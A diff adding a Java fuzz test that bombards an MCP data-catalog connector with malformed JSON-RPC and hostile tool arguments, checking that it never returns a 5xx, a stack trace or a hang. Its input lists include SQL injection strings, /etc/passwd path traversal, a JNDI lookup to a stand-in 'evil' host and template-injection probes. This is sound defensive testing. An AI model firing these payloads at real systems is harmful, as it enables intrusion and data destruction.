@@ -1,0 +1,311 @@
+package io.lakegate.connector.mcp;
+
+import static io.lakegate.connector.testsupport.ConnectorHarness.ALICE;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.function.Predicate;
+
+import io.lakegate.connector.testsupport.ConnectorHarness;
+import io.lakegate.emulator.DatabricksEmulator;
+import io.lakegate.emulator.EmulatorConfig;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+/**
+ * Sends hundreds of malformed and hostile JSON-RPC bodies and tool arguments to the running connector (seeded random,
+ * reproducible). Every answer must be a 4xx with a JSON-RPC error, or a 200 whose JSON-RPC message is an error or a
+ * tool result; never a 5xx, never a stack trace, never a hang (each request has a 20 s client timeout).
+ */
+class HostileInputFuzzTest {
+
+    static final JsonMapper JSON = JsonMapper.builder().build();
+    static final List<String> TOOLS = List.of("list_catalogs", "list_schemas", "list_tables", "get_table",
+            "search_tables", "list_sql_warehouses", "list_genie_spaces", "list_sql_tools", "list_genie_tools",
+            "proxy_to_sql", "proxy_to_genie");
+    static DatabricksEmulator emulator;
+    static ConnectorHarness connector;
+
+    @BeforeAll
+    static void start() {
+        emulator = DatabricksEmulator.start(EmulatorConfig.defaults());
+        connector = ConnectorHarness.start(emulator, Map.of("lakegate.ratelimit.user.fleet-limit", 100_000,
+                "lakegate.ratelimit.client.fleet-limit", 100_000, "lakegate.mcp.max-request-bytes", 65_536));
+    }
+
+    @AfterAll
+    static void stop() {
+        connector.close();
+        emulator.close();
+    }
+
+    record Case(String label, byte[] body, Map<String, String> headers, Predicate<HttpResponse<String>> expected) {
+    }
+
+    private final Random random = new Random(20261122L);
+    private final List<String> failures = new ArrayList<>();
+    private int requests;
+    private int serverErrors;
+
+    @Test
+    void hostileInputNeverCausesA5xxAStackTraceOrAHang() {
+        String token = connector.token(ALICE);
+        String session = connector.initializeSession(token);
+        Map<String, String> inSession = Map.of("Mcp-Session-Id", session, "MCP-Protocol-Version", "2025-11-25");
+
+        List<Case> cases = new ArrayList<>();
+        cases.addAll(garbage(inSession));
+        cases.addAll(notJsonRpc(inSession));
+        cases.addAll(deepNesting(inSession));
+        cases.addAll(oversized(inSession));
+        cases.addAll(unknownMethods(inSession));
+        cases.addAll(badToolCallEnvelopes(inSession));
+        cases.addAll(hostileToolArguments(inSession));
+        cases.addAll(headerAbuse(session));
+
+        for (Case c : cases) {
+            HttpResponse<String> r = connector.post(token, c.headers(), c.body());
+            requests++;
+            if (r.statusCode() >= 500) {
+                serverErrors++;
+            }
+            String body = r.body();
+            boolean leaks = body.contains("Exception") || body.contains("\tat ") || body.matches("(?s).*\\bat (io|org|java)\\..*");
+            if (r.statusCode() >= 500 || leaks || !c.expected().test(r)) {
+                failures.add(c.label() + " -> " + r.statusCode() + " " + abbreviate(body));
+            }
+        }
+        System.out.printf("fuzz: %d requests, %d server errors%n", requests, serverErrors);
+        assertThat(requests).isGreaterThanOrEqualTo(500);
+        assertThat(failures).isEmpty();
+        assertThat(serverErrors).isZero();
+        // the connector still works normally afterwards
+        assertThat(connector.call(ALICE, "list_catalogs", Map.of()).isError()).isFalse();
+    }
+
+    // ---- expectations ----
+
+    /** An HTTP error with a JSON-RPC error object of the given code. */
+    static Predicate<HttpResponse<String>> httpError(int status, int code) {
+        return r -> r.statusCode() == status && jsonRpcErrorCode(r.body()) == code;
+    }
+
+    /** 200 carrying a JSON-RPC error with the given code (SSE or JSON). */
+    static Predicate<HttpResponse<String>> rpcError(int code) {
+        return r -> r.statusCode() == 200 && jsonRpcErrorCode(message(r.body())) == code;
+    }
+
+    /** 200 carrying a tool result (an error result or a normal one) or a -32602 for an unknown tool. */
+    static Predicate<HttpResponse<String>> toolAnswer() {
+        return r -> {
+            if (r.statusCode() != 200) {
+                return false;
+            }
+            JsonNode m = JSON.readTree(message(r.body()));
+            return m.has("result") && m.path("result").has("content")
+                    || m.path("error").path("code").asInt() == -32602;
+        };
+    }
+
+    static Predicate<HttpResponse<String>> clientError() {
+        return r -> r.statusCode() >= 400 && r.statusCode() < 500;
+    }
+
+    static int jsonRpcErrorCode(String json) {
+        try {
+            return JSON.readTree(json).path("error").path("code").asInt(0);
+        } catch (RuntimeException e) {
+            return 0;
+        }
+    }
+
+    /** The JSON-RPC message of a reply: the body, or the data line of a single-event SSE stream. */
+    static String message(String body) {
+        if (body.startsWith("{")) {
+            return body;
+        }
+        return body.lines().filter(l -> l.startsWith("data:")).map(l -> l.substring(5).trim())
+                .filter(l -> l.startsWith("{")).reduce((a, b) -> b).orElse("{}");
+    }
+
+    // ---- generators ----
+
+    private List<Case> garbage(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        List<String> fixed = List.of("", " ", "{", "}", "[", "{\"jsonrpc\":\"2.0\",", "null\u0000", "{'a':1}",
+                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"", "<xml/>", "GET / HTTP/1.1", "\"unterminated",
+                "{\"a\":tru}", "{\"a\":1,}", "NaN", "{\"id\":01}", "\uFEFF{}", "{\"a\":\"\\uZZZZ\"}");
+        for (String s : fixed) {
+            out.add(new Case("garbage " + abbreviate(s), s.getBytes(StandardCharsets.UTF_8), h,
+                    httpError(400, -32700).or(httpError(400, -32600))));
+        }
+        for (int i = 0; i < 60; i++) {
+            byte[] bytes = new byte[1 + random.nextInt(400)];
+            random.nextBytes(bytes);
+            bytes[0] = (byte) '{';
+            out.add(new Case("random bytes #" + i, bytes, h, httpError(400, -32700).or(httpError(400, -32600))));
+        }
+        for (int i = 0; i < 20; i++) {   // valid JSON text around invalid UTF-8 sequences
+            byte[] prefix = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"params\":{\"x\":\"".getBytes();
+            byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) (0x80 + i), (byte) 0xED, (byte) 0xA0, (byte) 0x80};
+            byte[] suffix = "\"}}".getBytes();
+            byte[] all = new byte[prefix.length + bad.length + suffix.length];
+            System.arraycopy(prefix, 0, all, 0, prefix.length);
+            System.arraycopy(bad, 0, all, prefix.length, bad.length);
+            System.arraycopy(suffix, 0, all, prefix.length + bad.length, suffix.length);
+            out.add(new Case("invalid utf-8 #" + i, all, h, httpError(400, -32700)));
+        }
+        return out;
+    }
+
+    private List<Case> notJsonRpc(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        List<String> bodies = List.of("[]", "[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}]", "42", "\"text\"", "true",
+                "null", "{}", "{\"jsonrpc\":\"1.0\",\"id\":1,\"method\":\"ping\"}", "{\"jsonrpc\":2.0,\"id\":1,\"method\":\"ping\"}",
+                "{\"id\":1,\"method\":\"ping\"}", "{\"jsonrpc\":\"2.0\",\"id\":1}", "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":42}",
+                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"\"}", "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":null}",
+                "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":\"ping\"}", "{\"jsonrpc\":\"2.0\",\"id\":[1],\"method\":\"ping\"}",
+                "{\"jsonrpc\":\"2.0\",\"id\":1.5,\"method\":\"ping\"}", "{\"jsonrpc\":\"2.0\",\"id\":true,\"method\":\"ping\"}",
+                "{\"jsonrpc\":\"2.0\",\"id\":null,\"method\":\"ping\"}", "{\"jsonrpc\":\"2.0\",\"method\":[\"tools/call\"]}",
+                "{\"jsonrpc\":\"2.0\",\"id\":\"" + "i".repeat(1000) + "\",\"method\":\"ping\"}",
+                "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" + "m".repeat(5000) + "\"}",
+                "{\"jsonrpc\":\"2.0\",\"id\":99999999999999999999999999,\"method\":\"ping\"}");
+        for (String b : bodies) {
+            out.add(new Case("not json-rpc " + abbreviate(b), b.getBytes(StandardCharsets.UTF_8), h,
+                    httpError(400, -32600)));
+        }
+        for (int i = 0; i < 40; i++) {
+            String params = switch (i % 4) {
+                case 0 -> "[1,2,3]";
+                case 1 -> "\"params\"";
+                case 2 -> String.valueOf(random.nextInt());
+                default -> "true";
+            };
+            String b = "{\"jsonrpc\":\"2.0\",\"id\":" + i + ",\"method\":\"tools/list\",\"params\":" + params + "}";
+            out.add(new Case("params not object " + params, b.getBytes(), h, httpError(400, -32602)));
+        }
+        return out;
+    }
+
+    private List<Case> deepNesting(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        for (int depth : new int[] {65, 100, 500, 1000, 5000, 20000}) {
+            String arrays = "[".repeat(depth) + "]".repeat(depth);
+            out.add(new Case("nested arrays " + depth, ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":"
+                    + "{\"name\":\"list_catalogs\",\"arguments\":{\"x\":" + arrays + "}}}").getBytes(), h,
+                    httpError(400, -32700)));
+            String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
+            out.add(new Case("nested objects " + depth, ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":"
+                    + "{\"name\":\"list_catalogs\",\"arguments\":" + objects + "}}").getBytes(), h,
+                    httpError(400, -32700)));
+        }
+        return out;
+    }
+
+    private List<Case> oversized(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        for (int kb : new int[] {65, 100, 200, 1024}) {
+            String b = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"search_tables\","
+                    + "\"arguments\":{\"query\":\"" + "A".repeat(kb * 1024) + "\"}}}";
+            out.add(new Case("oversized " + kb + " KiB", b.getBytes(), h, httpError(413, -32600)));
+        }
+        return out;
+    }
+
+    private List<Case> unknownMethods(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        List<String> methods = new ArrayList<>(List.of("tools/delete", "admin/shutdown", "resources/write", "../../etc/passwd",
+                "tools/call/../list", "rpc.discover", "__proto__", "constructor", "sampling/createMessage",
+                "elicitation/create", "roots/list", "TOOLS/LIST", "tools/list ", "\u202etools/list", "tools\u0000list"));
+        for (int i = 0; i < 35; i++) {
+            methods.add("x/" + Integer.toHexString(random.nextInt()));
+        }
+        for (int i = 0; i < methods.size(); i++) {
+            String b = "{\"jsonrpc\":\"2.0\",\"id\":" + (1000 + i) + ",\"method\":" + JSON.writeValueAsString(methods.get(i))
+                    + ",\"params\":{}}";
+            out.add(new Case("unknown method " + abbreviate(methods.get(i)), b.getBytes(StandardCharsets.UTF_8), h,
+                    rpcError(-32601)));
+        }
+        return out;
+    }
+
+    private List<Case> badToolCallEnvelopes(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        List<String> params = List.of("{}", "{\"name\":null}", "{\"name\":42}", "{\"name\":\"\"}", "{\"name\":[\"list_catalogs\"]}",
+                "{\"name\":{\"x\":1}}", "{\"name\":\"list_catalogs\",\"arguments\":[]}",
+                "{\"name\":\"list_catalogs\",\"arguments\":\"{}\"}", "{\"name\":\"list_catalogs\",\"arguments\":7}",
+                "{\"name\":\"" + "t".repeat(300) + "\"}");
+        for (int repeat = 0; repeat < 5; repeat++) {
+            for (String p : params) {
+                String b = "{\"jsonrpc\":\"2.0\",\"id\":" + repeat + ",\"method\":\"tools/call\",\"params\":" + p + "}";
+                out.add(new Case("bad tools/call " + abbreviate(p), b.getBytes(), h, httpError(400, -32602)));
+            }
+        }
+        return out;
+    }
+
+    private List<Case> hostileToolArguments(Map<String, String> h) {
+        List<Case> out = new ArrayList<>();
+        List<Object> values = new ArrayList<>(List.of(42, -1, 0, 1.5e308, true, false, List.of(), List.of(1, "a"), Map.of(),
+                Map.of("nested", Map.of("deeper", List.of(1, 2))), "", " ", "A".repeat(60_000), "'; DROP TABLE sales.orders; --",
+                "sales.orders.orders\u0000", "../../../../etc/passwd", "${jndi:ldap://evil/x}", "{{7*7}}", "\u202e\u200b\uFEFF",
+                "😀".repeat(500), "SELECT * FROM system.information_schema.tables", "-- comment only",
+                "sales.*", "%", "_", "\\", "\"quoted\"", "\n\r\t"));
+        values.add(null);
+        List<String> argNames = List.of("catalog_name", "schema_name", "full_name", "query", "page_token", "max_results",
+                "workspace", "space_id", "question", "tool_name", "tool_args", "warehouse_id", "unexpected_property");
+        for (String tool : TOOLS) {
+            for (int i = 0; i < 20; i++) {
+                Map<String, Object> args = new LinkedHashMap<>();
+                int n = 1 + random.nextInt(3);
+                for (int k = 0; k < n; k++) {
+                    args.put(argNames.get(random.nextInt(argNames.size())), values.get(random.nextInt(values.size())));
+                }
+                Map<String, Object> params = new LinkedHashMap<>();
+                params.put("name", tool);
+                params.put("arguments", args);
+                String b = JSON.writeValueAsString(Map.of("jsonrpc", "2.0", "id", 5000 + out.size(), "method", "tools/call",
+                        "params", params));
+                out.add(new Case(tool + " " + abbreviate(args.toString()), b.getBytes(StandardCharsets.UTF_8), h, toolAnswer()));
+            }
+        }
+        for (String unknown : List.of("drop_table", "list_catalogs ", "LIST_CATALOGS", "../list_catalogs", "proxy_to_sql\u0000")) {
+            String b = JSON.writeValueAsString(Map.of("jsonrpc", "2.0", "id", 9000 + out.size(), "method", "tools/call",
+                    "params", Map.of("name", unknown, "arguments", Map.of())));
+            out.add(new Case("unknown tool " + abbreviate(unknown), b.getBytes(StandardCharsets.UTF_8), h, toolAnswer()));
+        }
+        return out;
+    }
+
+    private List<Case> headerAbuse(String session) {
+        List<Case> out = new ArrayList<>();
+        byte[] list = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}".getBytes();
+        for (String v : List.of("1999-01-01", "2025-13-45", "latest", "2025-11-25, 2025-06-18", "x".repeat(200), "")) {
+            out.add(new Case("protocol version " + abbreviate(v), list,
+                    Map.of("Mcp-Session-Id", session, "MCP-Protocol-Version", v), httpError(400, -32600)));
+        }
+        for (String s : List.of("no-such-session", "00000000-0000-0000-0000-000000000000", "x".repeat(500), "' OR 1=1 --")) {
+            out.add(new Case("unknown session " + abbreviate(s), list,
+                    Map.of("Mcp-Session-Id", s, "MCP-Protocol-Version", "2025-11-25"), clientError()));
+        }
+        out.add(new Case("no session on tools/list", list, Map.of("MCP-Protocol-Version", "2025-11-25"), clientError()));
+        out.add(new Case("wrong content type", list, Map.of("Mcp-Session-Id", session, "Content-Type", "text/plain"),
+                clientError()));
+        out.add(new Case("accept only html", list, Map.of("Mcp-Session-Id", session, "Accept", "text/html"), clientError()));
+        return out;
+    }
+
+    private static String abbreviate(String s) {
+        String clean = s.replaceAll("[^\\x20-\\x7e]", "?");
+        return clean.length() > 80 ? clean.substring(0, 80) + "..." : clean;
+    }
+}
